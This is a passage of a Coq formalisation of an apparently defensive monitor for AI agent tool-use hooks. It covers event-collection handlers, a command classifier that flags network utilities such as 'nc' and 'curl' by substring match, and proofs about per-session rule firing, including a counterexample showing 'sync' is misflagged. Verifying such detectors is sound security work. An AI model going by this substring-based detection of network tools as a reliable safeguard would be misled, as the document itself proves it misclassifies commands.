         (hp_parent_session_id payload) 0 0 0 "active" hostname user (Some source)).

Definition _create_or_update_session (payload : HookPayload) (request : option Request)
    : M Session :=
  fun w =>
    match get_session_by_id (database w) (hp_session_id payload) with
    | Some session => (session, w)
    | None =>
        (let* session := new_session payload None request in
         on_database (fun db => save_session db session) ;;
         ret session) w
    end.

(** The end of every handler: [db.save_event(event)],
    [db.increment_session_event_count(payload.session_id)],
    [engine.enqueue(event)]. *)
Definition store_and_enqueue (payload : HookPayload) (event : Event) : M unit :=
  on_database (fun db => save_event db event) ;;
  on_database (fun db => increment_session_event_count db (hp_session_id payload)) ;;
  enqueue event.

Section Handlers.
Context `{PyRe} `{PyUrl} `{ConditionEval}.

Definition collect_pre_tool_use (payload : HookPayload) (request : Request)
    : M (PyDict JVal) :=
  _create_or_update_session payload (Some request) ;;
  let* event := from_hook_payload payload in
  let event := set_hook_type event "PreToolUse" in
  let* answer := evaluate_pre_tool event in
  let decision := fst answer in
  let event := snd answer in
  store_and_enqueue payload event ;;
  ret (to_hook_response decision).

(** The handlers that only record the event. *)
Definition collect_received (hook_type : string) (payload : HookPayload)
    (request : Request) : M (PyDict JVal) :=
  _create_or_update_session payload (Some request) ;;
  let* event := from_hook_payload payload in
  let event := set_hook_type event hook_type in
  store_and_enqueue payload event ;;
  ret [("status", JStr "received")].

Definition collect_post_tool_use := collect_received "PostToolUse".
Definition collect_post_tool_use_error := collect_received "PostToolUseFailure".
Definition collect_permission_request := collect_received "PermissionRequest".
Definition collect_user_prompt_submit := collect_received "UserPromptSubmit".

(** The handlers that open a session: [session-start] and
    [subagent-start]. *)
Definition collect_started (hook_type : string) (payload : HookPayload)
    (request : Request) : M Session :=
  let* session := new_session payload (Some (hp_timestamp payload)) (Some request) in
  on_database (fun db => save_session db session) ;;
  let* event := from_hook_payload payload in
  let event := set_hook_type event hook_type in
  store_and_enqueue payload event ;;
  ret session.

Definition collect_session_start (payload : HookPayload) (request : Request)
    : M (PyDict JVal) :=
  collect_started "SessionStart" payload request ;;
  ret [ ("status", JStr "session_started");
        ("session_id", JStr (hp_session_id payload)) ].

Definition collect_subagent_start (payload : HookPayload) (request : Request)
    : M (PyDict JVal) :=
  collect_started "SubagentStart" payload request ;;
  ret [ ("status", JStr "subagent_started");
        ("session_id", JStr (hp_session_id payload));
        ("parent_session_id", opt_str (hp_parent_session_id payload)) ].

(** The handlers that close a session: [session-end] and
    [subagent-stop]. *)
Definition collect_ended (hook_type : string) (payload : HookPayload) : M unit :=
  let* t := now in
  on_database (fun db => end_session db t (hp_session_id payload)) ;;
  let* event := from_hook_payload payload in
  let event := set_hook_type event hook_type in
  store_and_enqueue payload event.

Definition collect_session_end (payload : HookPayload) (request : Request)
    : M (PyDict JVal) :=
  collect_ended "SessionEnd" payload ;;
  ret [ ("status", JStr "session_ended");
        ("session_id", JStr (hp_session_id payload)) ].

Definition collect_subagent_stop (payload : HookPayload) (request : Request)
    : M (PyDict JVal) :=
  collect_ended "SubagentStop" payload ;;
  ret [ ("status", JStr "subagent_stopped");
        ("session_id", JStr (hp_session_id payload)) ].

End Handlers.

(** *** Statements about the handlers *)

(** What a handler that only records does with a payload: the answer is
    [received]; the event is stored as the payload gives it, under the
    hook type of the endpoint, not yet enriched or processed, and queued;
    the session is there afterwards, active, with one more event counted;
    alerts, broadcasts, policy cache and sequence tracker are as before. *)
Definition records (hook_type : string)
    (handler : HookPayload -> Request -> M (PyDict JVal)) : Prop :=
  forall (payload : HookPayload) (request : Request) (w : Engine),
    let response := fst (handler payload request w) in
    let w' := snd (handler payload request w) in
    let sid := hp_session_id payload in
    response = [("status", JStr "received")] /\
    (exists event,
       get_event_by_id (database w') (ev_id event) = Some event /\
       ev_hook_type event = hook_type /\ ev_session_id event = sid /\
       ev_timestamp event = hp_timestamp payload /\
       ev_tool_name event = hp_tool_name payload /\
       ev_tool_input event = hp_tool_input payload /\
       ev_tool_result event = hp_tool_result payload /\
       ev_category event = UNKNOWN /\ ev_severity event = INFO /\
       ev_processed event = false /\ ev_enriched event = false /\
       _event_queue w' = _event_queue w ++ [event]) /\
    (exists s,
       get_session_by_id (database w') sid = Some s /\
       s_status s = "active" /\ s_ended_at s = None /\
       s_event_count s =
         match get_session_by_id (database w) sid with
         | Some old => s_event_count old
         | None => 0
         end + 1 /\
       s_alert_count s =
         match get_session_by_id (database w) sid with
         | Some old => s_alert_count old
         | None => 0
         end) /\
    alerts (database w') = alerts (database w) /\
    broadcasts w' = broadcasts w /\
    _policies w' = _policies w /\
    _sequence_tracker w' = _sequence_tracker w.

End Collector.

(** ** A reference implementation of the [re] interface

    It reads every pattern as plain text: a search is a substring test and
    the matches are the occurrences from left to right, without overlap.
    This is what Python computes for a pattern without metacharacters; it
    serves to run the definitions on concrete inputs. *)

Module LiteralRe.

Fixpoint occurrences_from (pattern : string) (skip : nat) (text : string) : list string :=
  match text with
  | EmptyString => []
  | String _ text' =>
      match skip with
      | S k => occurrences_from pattern k text'
      | O =>
          if String.prefix pattern text
          then pattern :: occurrences_from pattern (String.length pattern - 1) text'
          else occurrences_from pattern 0 text'
      end
  end.

Definition occurrences (pattern text : string) : list string :=
  match pattern with
  | EmptyString => repeat EmptyString (S (String.length text))
  | _ => occurrences_from pattern 0 text
  end.

Definition literal_re : PyRe := {|
  re_search ignorecase pattern text :=
    Some (if ignorecase then Str.contains (Str.lower pattern) (Str.lower text)
          else Str.contains pattern text);
  re_findall pattern text := occurrences pattern text;
  re_finditer pattern text := map (fun _ => []) (occurrences pattern text)
|}.

End LiteralRe.

(** * Properties *)

(** ** Strings *)

Lemma mem_In x xs : Str.mem x xs = true <-> In x xs.
Proof.
  unfold Str.mem. rewrite existsb_exists. split.
  - intros (y & Hy & He). apply String.eqb_eq in He. by subst.
  - intros Hx. exists x. split; [done | apply String.eqb_refl].
Qed.

Lemma append_cons c s t : String c s +:+ t = String c (s +:+ t).
Proof. reflexivity. Qed.
Lemma append_nil t : "" +:+ t = t.
Proof. reflexivity. Qed.
Lemma prefix_app p s : String.prefix p s = true <-> exists post, s = p +:+ post.
Proof.
  revert s. induction p as [|c p IH]; intros s; simpl.
  - split; [intros _; by exists s | intros _; by destruct s].
  - destruct s as [|d s]; simpl.
    + split; [done | intros [post Hp]; discriminate].
    + setoid_rewrite append_cons. destruct (ascii_dec c d) as [->|Hne].
      * rewrite IH. split; intros [post Hp]; exists post; congruence.
      * split; [done | intros [post Hp]; congruence].
Qed.

(** [needle in hay] holds exactly when [hay] splits around [needle]. *)
Lemma contains_app needle hay :
  Str.contains needle hay = true <->
  exists pre post, hay = pre +:+ needle +:+ post.
Proof.
  induction hay as [|c hay IH]; cbn [Str.contains].
  - rewrite orb_false_r, prefix_app. split.
    + intros [post Hp]. by exists EmptyString, post.
    + intros (pre & post & Hp). destruct pre; [by exists post | discriminate].
  - rewrite orb_true_iff, prefix_app, IH. split.
    + intros [[post Hp] | (pre & post & Hp)].
      * by exists EmptyString, post.
      * exists (String c pre), post. rewrite append_cons. by rewrite Hp.
    + intros (pre & post & Hp). destruct pre as [|d pre].
      * left. by exists post.
      * right. exists pre, post. rewrite append_cons in Hp. congruence.
Qed.

(** ** Classifier *)

Section ClassifierFacts.
Import Classifier.

Lemma is_network_command_iff command :
  _is_network_command command = true <->
  exists utility pre post,
    In utility network_commands /\
    Str.lower command = pre +:+ utility +:+ post.
Proof.
  unfold _is_network_command. rewrite existsb_exists. split.
  - intros (u & Hu & Hc). apply contains_app in Hc as (pre & post & Hc).
    by exists u, pre, post.
  - intros (u & pre & post & Hu & Hc). exists u. split; [done|].
    apply contains_app. by exists pre, post.
Qed.

(** C3 (as amended): for an event whose tool name is not in the fixed
    mapping and whose [tool_input] has a [command] key and neither a
    [file_path] nor a [path] key, [classify_event] returns [NETWORK_ACCESS]
    exactly when the name of one of the network utilities occurs somewhere
    in the lower-cased command, as a substring, and [COMMAND_EXEC]
    otherwise. *)
Theorem classify_event_command_shape (event : Event) (command : string) :
  tool_category (ev_tool_name event) = None ->
  dict_get (tool_input_or_empty event) "command" = Some command ->
  dict_has (tool_input_or_empty event) "file_path" = false ->
  dict_has (tool_input_or_empty event) "path" = false ->
  (classify_event event = NETWORK_ACCESS <->
     exists utility pre post,
       In utility network_commands /\
       Str.lower command = pre +:+ utility +:+ post) /\
  (classify_event event <> NETWORK_ACCESS -> classify_event event = COMMAND_EXEC).
Proof.
  intros Htool Hcmd Hfp Hp. unfold classify_event.
  rewrite Htool, Hfp, Hp. unfold dict_has. rewrite Hcmd. simpl.
  rewrite <- is_network_command_iff.
  destruct (_is_network_command command).
  - split; [by split | by intros []].
  - split; [by split | done].
Qed.

Definition custom_command_event (command : string) : Event :=
  mkEvent 1%N "s1" 0 "PreToolUse" (Some "CustomTool")
          (Some [("command", command)]) None UNKNOWN INFO [] [] [] []
          false false None.

Lemma classify_event_command_shape_witness :
  (classify_event (custom_command_event "curl https://example.com") = NETWORK_ACCESS <->
     exists utility pre post,
       In utility network_commands /\
       Str.lower "curl https://example.com" = pre +:+ utility +:+ post) /\
  (classify_event (custom_command_event "curl https://example.com") <> NETWORK_ACCESS ->
   classify_event (custom_command_event "curl https://example.com") = COMMAND_EXEC).
Proof.
  apply (classify_event_command_shape
           (custom_command_event "curl https://example.com")
           "curl https://example.com"); reflexivity.
Defined.

(** C3 as stated fails: the command [sync] has a single token, which is not
    a network utility, and is still classified as network access, because
    [nc] occurs inside it. *)
Lemma classify_event_first_token_counterexample :
  tool_category (ev_tool_name (custom_command_event "sync")) = None /\
  dict_has (tool_input_or_empty (custom_command_event "sync")) "command" = true /\
  dict_has (tool_input_or_empty (custom_command_event "sync")) "file_path" = false /\
  dict_has (tool_input_or_empty (custom_command_event "sync")) "path" = false /\
  spec_first_token_is_network_utility "sync" = false /\
  classify_event (custom_command_event "sync") = NETWORK_ACCESS.
Proof. repeat split. Qed.

End ClassifierFacts.

(** ** Sequence tracker *)

Section SortFacts.
Import Sequence.
Context {A : Type} (key : A -> Z).

Lemma in_insert_by x y l : In x (Py.insert_by key y l) <-> x = y \/ In x l.
Proof.
  induction l as [|z l IH]; simpl; [naive_solver|].
  destruct (key y <=? key z); simpl; [naive_solver|]. rewrite IH. naive_solver.
Qed.

Lemma in_sorted_by x l : In x (Py.sorted_by key l) <-> In x l.
Proof.
  induction l as [|y l IH]; simpl; [done|].
  rewrite in_insert_by, IH. naive_solver.
Qed.

Definition key_le (a b : A) : Prop := key a <= key b.

Lemma insert_by_sorted y l :
  StronglySorted key_le l -> StronglySorted key_le (Py.insert_by key y l).
Proof.
  induction 1 as [|z l Hs IH Hall]; simpl; [repeat constructor|].
  destruct (Z.leb_spec (key y) (key z)) as [Hle|Hgt].
  - constructor; [by constructor|]. constructor; [done|].
    eapply List.Forall_impl; [|exact Hall]. unfold key_le. intros a Ha. simpl in Ha. lia.
  - constructor; [done|]. apply List.Forall_forall. intros a Ha.
    apply in_insert_by in Ha as [->|Ha]; [unfold key_le; lia|].
    rewrite List.Forall_forall in Hall. by apply Hall.
Qed.

Lemma sorted_by_sorted l : StronglySorted key_le (Py.sorted_by key l).
Proof.
  induction l as [|y l IH]; simpl; [constructor|]. by apply insert_by_sorted.
Qed.

(** On a sorted list, the first element at or after a bound is a least one. *)
Lemma find_sorted_least (last : option Z) l x :
  StronglySorted key_le l ->
  List.find (fun e => match last with None => true | Some t => t <=? key e end) l = Some x ->
  In x l /\ after last (key x) /\
  forall y, In y l -> after last (key y) -> key x <= key y.
Proof.
  induction 1 as [|z l Hs IH Hall]; simpl; [done|].
  destruct (match last with None => true | Some t => t <=? key z end) eqn:Hp.
  - intros [= ->]. split; [by left|]. split.
    + destruct last; simpl; [lia | done].
    + intros y [->|Hy] _; [lia|]. rewrite List.Forall_forall in Hall.
      by apply Hall.
  - intros Hf. apply IH in Hf as (Hin & Haf & Hmin). split; [by right|].
    split; [done|]. intros y [->|Hy] Hy'; [|by apply Hmin].
    destruct last; simpl in *; [lia | done].
Qed.

Lemma find_none_after (last : option Z) (l : list A) :
  List.find (fun e => match last with None => true | Some t => t <=? key e end) l = None ->
  forall y, In y l -> ~ after last (key y).
Proof.
  intros Hf y Hy Ha. eapply List.find_none in Hf; [|done].
  destruct last; simpl in *; [lia | done].
Qed.

End SortFacts.

Section SequenceFacts.
Import Sequence.
Context `{PyRe}.

Lemma pick_some last matches e :
  pick last matches = Some e ->
  In e matches /\ after last (be_timestamp e) /\
  forall e', In e' matches -> after last (be_timestamp e') ->
             be_timestamp e <= be_timestamp e'.
Proof.
  unfold pick. intros Hf.
  apply find_sorted_least in Hf as (Hin & Ha & Hmin); [|apply sorted_by_sorted].
  split; [by apply in_sorted_by in Hin|]. split; [done|].
  intros e' He'. apply Hmin. by apply in_sorted_by.
Qed.

Lemma pick_none last matches :
  pick last matches = None ->
  forall e, In e matches -> ~ after last (be_timestamp e).
Proof.
  unfold pick. intros Hf e He. eapply find_none_after; [done|].
  by apply in_sorted_by.
Qed.

(** The greedy scan returns one event per step, in time order. *)
Lemma find_ordered_from_sound step_matches : forall last result,
  find_ordered_from last step_matches = Some result ->
  Forall2 (fun matches e => In e matches) step_matches result /\
  chain_from last (map be_timestamp result).
Proof.
  induction step_matches as [|m sm IH]; intros last result; simpl.
  - intros [= <-]. split; [constructor | done].
  - destruct (pick last m) as [e|] eqn:Hp; [|done].
    destruct (find_ordered_from (Some (be_timestamp e)) sm) as [r|] eqn:Hr; [|done].
    intros [= <-]. apply pick_some in Hp as (Hin & Ha & _).
    apply IH in Hr as [Hf Hc]. split; [by constructor | by split].
Qed.

(** The greedy scan finds a selection whenever there is one. *)
Lemma find_ordered_from_complete step_matches : forall last sel,
  Forall2 (fun matches e => In e matches) step_matches sel ->
  chain_from last (map be_timestamp sel) ->
  exists result, find_ordered_from last step_matches = Some result.
Proof.
  induction step_matches as [|m sm IH]; intros last sel Hsel Hc; simpl.
  - by eexists.
  - inversion Hsel as [|? e ? sel' Hin Hsel']; subst. simpl in Hc.
    destruct Hc as [Ha Hc].
    destruct (pick last m) as [e0|] eqn:Hp.
    + apply pick_some in Hp as (Hin0 & Ha0 & Hmin).
      destruct (IH (Some (be_timestamp e0)) sel' Hsel') as [r Hr].
      * destruct sel' as [|e1 sel']; [done|]. simpl in *.
        destruct Hc as [Hle Hc]. split; [|done].
        specialize (Hmin e Hin Ha). lia.
      * rewrite Hr. by eexists.
    + exfalso. by eapply pick_none.
Qed.

Lemma collect_step_matches_some steps window sm :
  collect_step_matches steps window = Some sm ->
  Forall2 (fun step matches =>
             matches = List.filter (fun e => _matches_step step (be_data e)) window /\
             matches <> [])
          steps sm.
Proof.
  revert sm. induction steps as [|step steps IH]; intros sm; simpl.
  - intros [= <-]. constructor.
  - destruct (List.filter _ window) as [|e m] eqn:Hf; [done|].
    destruct (collect_step_matches steps window) as [rest|]; [|done].
    intros [= <-]. constructor; [done | by apply IH].
Qed.

Lemma collect_step_matches_none steps window :
  collect_step_matches steps window = None <->
  exists step, In step steps /\
    List.filter (fun e => _matches_step step (be_data e)) window = [].
Proof.
  induction steps as [|step steps IH]; simpl.
  - split; [done | by intros (? & [] & _)].
  - destruct (List.filter _ window) as [|e m] eqn:Hf.
    + split; [|done]. intros _. exists step. by split; [left|].
    + destruct (collect_step_matches steps window) as [rest|].
      * split; [done|]. intros (s & [<-|Hin] & Hs); [congruence|].
        destruct IH as [_ IH]. assert (Some rest = None) as Hx; [|done].
        apply IH. by exists s.
      * split; [|done]. intros _. destruct IH as [IH _].
        destruct (IH eq_refl) as (s & Hin & Hs). exists s. by split; [right|].
Qed.


Lemma check_rule_unfold t rule sid now buf :
  _buffers t !! sid = Some buf ->
  _check_rule t rule sid now =
  match List.filter (fun e => now - seconds (rule_time_window_seconds rule) <=? be_timestamp e) buf with
  | [] => None
  | w =>
      match collect_step_matches (rule_steps rule) w with
      | None => None
      | Some step_matches =>
          if rule_ordered rule then _find_ordered_match step_matches
          else Some (concat (map first_of step_matches))
      end
  end.
Proof.
  intros Hb. unfold _check_rule. rewrite Hb.
  destruct buf as [|e b]; [done|]. cbv zeta.
  by destruct (List.filter _ (e :: b)).
Qed.

Lemma in_window_filter buf cutoff step e :
  In e (List.filter (fun e => _matches_step step (be_data e))
          (List.filter (fun e => cutoff <=? be_timestamp e) buf)) <->
  window_match buf cutoff step e.
Proof.
  unfold window_match. rewrite !List.filter_In, Z.leb_le. tauto.
Qed.

Lemma collect_selection buf cutoff steps sm sel :
  collect_step_matches steps (List.filter (fun e => cutoff <=? be_timestamp e) buf) = Some sm ->
  Forall2 (fun matches e => In e matches) sm sel ->
  Forall2 (window_match buf cutoff) steps sel.
Proof.
  intros Hc. apply collect_step_matches_some in Hc. revert sel.
  induction Hc as [|step m steps sm [-> _] _ IH]; intros sel Hsel.
  - inversion Hsel. constructor.
  - inversion Hsel as [|? e ? sel' Hin Hsel']; subst.
    constructor; [by apply in_window_filter | by apply IH].
Qed.

Lemma selection_collect buf cutoff steps sel :
  Forall2 (window_match buf cutoff) steps sel ->
  exists sm,
    collect_step_matches steps (List.filter (fun e => cutoff <=? be_timestamp e) buf) = Some sm /\
    Forall2 (fun matches e => In e matches) sm sel.
Proof.
  induction 1 as [|step e steps sel Hm _ (sm & Hc & Hsel)]; simpl.
  - exists []. split; [done | constructor].
  - apply in_window_filter in Hm.
    destruct (List.filter (fun e0 => _matches_step step (be_data e0)) _) as [|e0 m] eqn:Hf;
      [done|].
    rewrite Hc. eexists. split; [done|]. by constructor.
Qed.

Lemma first_of_selection sm :
  Forall (fun matches : list _BufferedEvent => matches <> []) sm ->
  Forall2 (fun matches e => In e matches) sm (concat (map first_of sm)).
Proof.
  induction 1 as [|m sm Hne _ IH]; simpl; [constructor|].
  destruct m as [|e m]; [done|]. simpl. constructor; [by left | done].
Qed.

Lemma collect_nonempty steps w sm :
  collect_step_matches steps w = Some sm ->
  Forall (fun matches : list _BufferedEvent => matches <> []) sm.
Proof.
  intros Hc. apply collect_step_matches_some in Hc.
  induction Hc as [|step m steps sm [_ Hne] _ IH]; by constructor.
Qed.

(** Everything [_check_rule] returns is one event per step, inside the
    window and matching its step; for an ordered rule, in time order. *)
Lemma check_rule_sound t rule sid now buf result :
  _buffers t !! sid = Some buf ->
  _check_rule t rule sid now = Some result ->
  Forall2 (window_match buf (now - seconds (rule_time_window_seconds rule)))
          (rule_steps rule) result /\
  (rule_ordered rule = true -> nondecreasing (map be_timestamp result)).
Proof.
  intros Hb. rewrite (check_rule_unfold _ _ _ _ _ Hb).
  set (cutoff := now - seconds (rule_time_window_seconds rule)).
  destruct (List.filter _ buf) as [|e0 w] eqn:Hw; [done|]. rewrite <- Hw.
  destruct (collect_step_matches _ _) as [sm|] eqn:Hc; [|done].
  destruct (rule_ordered rule).
  - intros Hf. apply find_ordered_from_sound in Hf as [Hsel Hch].
    split; [by eapply collect_selection | done].
  - intros [= <-]. split; [|done]. eapply collect_selection; [done|].
    apply first_of_selection. by eapply collect_nonempty.
Qed.

(** An ordered rule fires exactly when the window is not empty and one
    matching event per step can be picked in time order. *)
Lemma check_rule_ordered_iff t rule sid now buf :
  _buffers t !! sid = Some buf ->
  rule_ordered rule = true ->
  let cutoff := now - seconds (rule_time_window_seconds rule) in
  (exists result, _check_rule t rule sid now = Some result) <->
  (exists e, In e buf /\ cutoff <= be_timestamp e) /\
  (exists sel, Forall2 (window_match buf cutoff) (rule_steps rule) sel /\
               nondecreasing (map be_timestamp sel)).
Proof.
  intros Hb Ho cutoff. split.
  - intros [result Hr]. pose proof Hr as Hr'.
    apply (check_rule_sound _ _ _ _ _ _ Hb) in Hr as [Hsel Hch]. split.
    + rewrite (check_rule_unfold _ _ _ _ _ Hb) in Hr'. fold cutoff in Hr'.
      destruct (List.filter _ buf) as [|e0 w] eqn:Hw; [done|]. exists e0.
      assert (In e0 (List.filter (fun e => cutoff <=? be_timestamp e) buf)) as Hin
        by (rewrite Hw; by left).
      apply List.filter_In in Hin as [Hin Hle]. split; [done | lia].
    + exists result. split; [done | by apply Hch].
  - intros [(e0 & Hin0 & Hle0) (sel & Hsel & Hch)].
    rewrite (check_rule_unfold _ _ _ _ _ Hb). fold cutoff. rewrite Ho.
    destruct (List.filter _ buf) as [|e1 w] eqn:Hw.
    + assert (In e0 (List.filter (fun e => cutoff <=? be_timestamp e) buf)) as Hin.
      { apply List.filter_In. split; [done | lia]. }
      by rewrite Hw in Hin.
    + rewrite <- Hw. apply selection_collect in Hsel as (sm & Hc & Hs).
      rewrite Hc. by eapply find_ordered_from_complete.
Qed.

(** A rule that is not ordered fires exactly when the window is not empty
    and every step has a matching event in it. *)
Lemma check_rule_unordered_iff t rule sid now buf :
  _buffers t !! sid = Some buf ->
  rule_ordered rule = false ->
  let cutoff := now - seconds (rule_time_window_seconds rule) in
  (exists result, _check_rule t rule sid now = Some result) <->
  (exists e, In e buf /\ cutoff <= be_timestamp e) /\
  (forall step, In step (rule_steps rule) -> exists e, window_match buf cutoff step e).
Proof.
  intros Hb Ho cutoff. rewrite (check_rule_unfold _ _ _ _ _ Hb). fold cutoff. rewrite Ho.
  destruct (List.filter _ buf) as [|e1 w] eqn:Hw.
  - split; [by intros [? ?]|]. intros [(e0 & Hin0 & Hle0) _].
    assert (In e0 (List.filter (fun e => cutoff <=? be_timestamp e) buf)) as Hin.
    { apply List.filter_In. split; [done | lia]. }
    by rewrite Hw in Hin.
  - assert (exists e, In e buf /\ cutoff <= be_timestamp e) as Hne.
    { exists e1.
      assert (In e1 (List.filter (fun e => cutoff <=? be_timestamp e) buf)) as Hin
        by (rewrite Hw; by left).
      apply List.filter_In in Hin as [Hin Hle]. split; [done | lia]. }
    rewrite <- Hw.
    destruct (collect_step_matches _ _) as [sm|] eqn:Hc.
    + split; [|by eexists]. intros _. split; [done|]. intros step Hin.
      apply collect_step_matches_some in Hc.
      induction Hc as [|s m steps sm [-> Hn] _ IH]; [done|].
      destruct Hin as [->|Hin]; [|by apply IH].
      destruct (List.filter (fun e => _matches_step step (be_data e)) _) as [|e m'] eqn:Hf;
        [done|].
      exists e. apply in_window_filter. rewrite Hf. by left.
    + split; [by intros [? ?]|]. intros [_ Hall].
      apply collect_step_matches_none in Hc as (step & Hin & Hf).
      destruct (Hall step Hin) as [e He]. apply in_window_filter in He.
      by rewrite Hf in He.
Qed.

Lemma check_rules_fired t sid now rules fired fired' ms :
  check_rules t sid now rules fired = (fired', ms) ->
  fired ⊆ fired' /\
  (forall k, k ∈ fired' -> k ∈ fired \/ snd k = sid) /\
  (forall rid, In rid (fired_ids ms) -> (rid, sid) ∉ fired /\ (rid, sid) ∈ fired') /\
  List.NoDup (fired_ids ms).
Proof.
  revert fired fired' ms.
  induction rules as [|rule rules IH]; intros fired fired' ms; simpl.
  - intros [= <- <-]. repeat split; try done; [by left | constructor].
  - destruct (_check_rule t rule sid now) as [result|]; [|by apply IH].
    case_decide as Hk; [by apply IH|].
    destruct (check_rules t sid now rules ({[(rule_id rule, sid)]} ∪ fired))
      as [f' ms'] eqn:Hrec.
    intros [= <- <-]. apply IH in Hrec as (Hsub & Hnew & Hids & Hnd).
    split; [set_solver|]. split; [|split].
    + intros k Hk'. apply Hnew in Hk' as [Hk'|Hk']; [|by right].
      apply elem_of_union in Hk' as [Hk'|Hk']; [|by left].
      apply elem_of_singleton in Hk' as ->. by right.
    + intros rid [<-|Hin]; simpl.
      * split; [done | set_solver].
      * apply Hids in Hin as [Hn Hi]. split; [set_solver | done].
    + simpl. constructor; [|done].
      intros Hin. apply Hids in Hin as [Hn _]. set_solver.
Qed.


Lemma track_event_fired t event_id sid ts data t' ms :
  track_event t event_id sid ts data = (t', ms) ->
  _fired t ⊆ _fired t' /\
  (forall k, k ∈ _fired t' -> k ∈ _fired t \/ snd k = sid) /\
  (forall rid, In rid (fired_ids ms) ->
     (rid, sid) ∉ _fired t /\ (rid, sid) ∈ _fired t') /\
  List.NoDup (fired_ids ms).
Proof.
  unfold track_event.
  set (t1 := mkTracker _ _ _ _).
  destruct (check_rules t1 sid ts (_rules t1) (_fired t1)) as [f ms'] eqn:Hc.
  intros [= <- <-]. simpl. by apply check_rules_fired in Hc.
Qed.

Lemma NoDup_count_le_1 (l : list string) x :
  List.NoDup l -> (length (List.filter (String.eqb x) l) <= 1)%nat.
Proof.
  induction 1 as [|y l Hy Hnd IH]; simpl; [lia|].
  destruct (String.eqb_spec x y) as [->|Hne]; [|done]. simpl.
  assert (List.filter (String.eqb y) l = []) as ->; [|simpl; lia].
  clear IH Hnd. induction l as [|z l IH]; [done|]. simpl.
  destruct (String.eqb_spec y z) as [->|Hne].
  - exfalso. apply Hy. by left.
  - apply IH. intros Hin. apply Hy. by right.
Qed.

Lemma fire_count_app sid rid l1 l2 :
  fire_count sid rid (l1 ++ l2) = (fire_count sid rid l1 + fire_count sid rid l2)%nat.
Proof. unfold fire_count. by rewrite List.filter_app, length_app. Qed.

Lemma fire_count_tagged sid sid' rid ids :
  fire_count sid rid (map (fun r => (sid', r)) ids) =
  if String.eqb sid' sid then length (List.filter (String.eqb rid) ids) else 0%nat.
Proof.
  unfold fire_count. induction ids as [|i ids IH]; simpl; [by destruct (_ =? _)%string|].
  rewrite (String.eqb_sym i rid).
  destruct (String.eqb sid' sid); simpl; [|done].
  destruct (String.eqb rid i); simpl; by rewrite IH.
Qed.

Lemma count_zero_not_in (l : list string) x :
  ~ In x l -> length (List.filter (String.eqb x) l) = 0%nat.
Proof.
  induction l as [|y l IH]; [done|]. simpl. intros Hn.
  destruct (String.eqb_spec x y) as [->|Hne]; [exfalso; apply Hn; by left|].
  apply IH. intros Hin. apply Hn. by right.
Qed.

Lemma count_pos_in (l : list string) x :
  (0 < length (List.filter (String.eqb x) l))%nat -> In x l.
Proof.
  intros Hpos. destruct (in_dec string_dec x l) as [|Hn]; [done|].
  rewrite count_zero_not_in in Hpos by done. lia.
Qed.

(** Once the key of a rule and a session is in the fired set, no run
    without a reset of that session returns a match for it. *)
Lemma run_ops_fired_silent ops : forall t t' log sid rid,
  (forall s, In (OpReset s) ops -> s <> sid) ->
  (rid, sid) ∈ _fired t ->
  run_ops t ops = (t', log) ->
  fire_count sid rid log = 0%nat.
Proof.
  induction ops as [|op ops IH]; intros t t' log sid rid Hnr Hin; simpl.
  - by intros [= <- <-].
  - destruct op as [eid s ts data|s|rules].
    + destruct (track_event t eid s ts data) as [t1 ms] eqn:Ht.
      destruct (run_ops t1 ops) as [t2 log2] eqn:Hr. intros [= <- <-].
      apply track_event_fired in Ht as (Hsub & _ & Hids & _).
      rewrite fire_count_app, fire_count_tagged.
      rewrite (IH t1 t2 log2 sid rid); [|set_solver|set_solver|done].
      destruct (String.eqb_spec s sid) as [->|Hne]; [|done].
      rewrite count_zero_not_in; [done|].
      intros Hi. apply Hids in Hi as [Hn _]. done.
    + apply IH; [set_solver|].
      unfold reset_session. simpl. apply elem_of_filter. split; [|done].
      simpl. intros Heq. apply (Hnr s); [by left | done].
    + apply IH; [set_solver | done].
Qed.

Lemma run_ops_at_most_once ops : forall t t' log sid rid,
  (forall s, In (OpReset s) ops -> s <> sid) ->
  run_ops t ops = (t', log) ->
  (fire_count sid rid log <= 1)%nat.
Proof.
  induction ops as [|op ops IH]; intros t t' log sid rid Hnr; simpl.
  - intros [= <- <-]. unfold fire_count. simpl. lia.
  - destruct op as [eid s ts data|s|rules].
    + destruct (track_event t eid s ts data) as [t1 ms] eqn:Ht.
      destruct (run_ops t1 ops) as [t2 log2] eqn:Hr. intros [= <- <-].
      pose proof Ht as Ht'.
      apply track_event_fired in Ht as (Hsub & _ & Hids & Hnd).
      rewrite fire_count_app, fire_count_tagged.
      destruct (String.eqb_spec s sid) as [->|Hne].
      * pose proof (NoDup_count_le_1 _ rid Hnd) as Hle.
        destruct (length (List.filter (String.eqb rid) (fired_ids ms))) as [|n] eqn:Hn.
        -- simpl. eapply IH; [|done]. set_solver.
        -- rewrite (run_ops_fired_silent ops t1 t2 log2 sid rid); [lia|set_solver| |done].
           apply Hids. apply count_pos_in. lia.
      * simpl. eapply IH; [|done]. set_solver.
    + eapply IH. set_solver.
    + eapply IH. set_solver.
Qed.

Lemma reset_session_effect t sid :
  _buffers (reset_session t sid) !! sid = None /\
  (forall rid, (rid, sid) ∉ _fired (reset_session t sid)) /\
  (forall sid', sid' <> sid ->
     _buffers (reset_session t sid) !! sid' = _buffers t !! sid' /\
     (forall rid, (rid, sid') ∈ _fired (reset_session t sid) <-> (rid, sid') ∈ _fired t)) /\
  _rules (reset_session t sid) = _rules t.
Proof.
  unfold reset_session. simpl. split; [apply lookup_delete_eq|].
  split; [intros rid Hin; apply elem_of_filter in Hin as [Hne _]; by apply Hne|].
  split; [|done]. intros sid' Hne. split; [by apply lookup_delete_ne|].
  intros rid. rewrite elem_of_filter. simpl. naive_solver.
Qed.

(** C4: over any run of the tracker that does not reset session
    [session_id], [track_event] returns a match for a given rule id in that
    session at most once, however many events are tracked; and
    [reset_session] empties the buffer and the fired entries of its session
    and leaves the buffers and fired entries of every other session as
    they were. *)
Theorem track_event_fires_once_per_session (t : SequenceTracker)
    (ops : list TrackerOp) (session_id rid : string) :
  (forall s, In (OpReset s) ops -> s <> session_id) ->
  (fire_count session_id rid (snd (run_ops t ops)) <= 1)%nat /\
  (forall t' sid,
     _buffers (reset_session t' sid) !! sid = None /\
     (forall r, (r, sid) ∉ _fired (reset_session t' sid)) /\
     (forall sid', sid' <> sid ->
        _buffers (reset_session t' sid) !! sid' = _buffers t' !! sid' /\
        (forall r, (r, sid') ∈ _fired (reset_session t' sid) <-> (r, sid') ∈ _fired t'))).
Proof.
  intros Hnr. split.
  - destruct (run_ops t ops) as [t' log] eqn:Hr. simpl.
    by eapply run_ops_at_most_once.
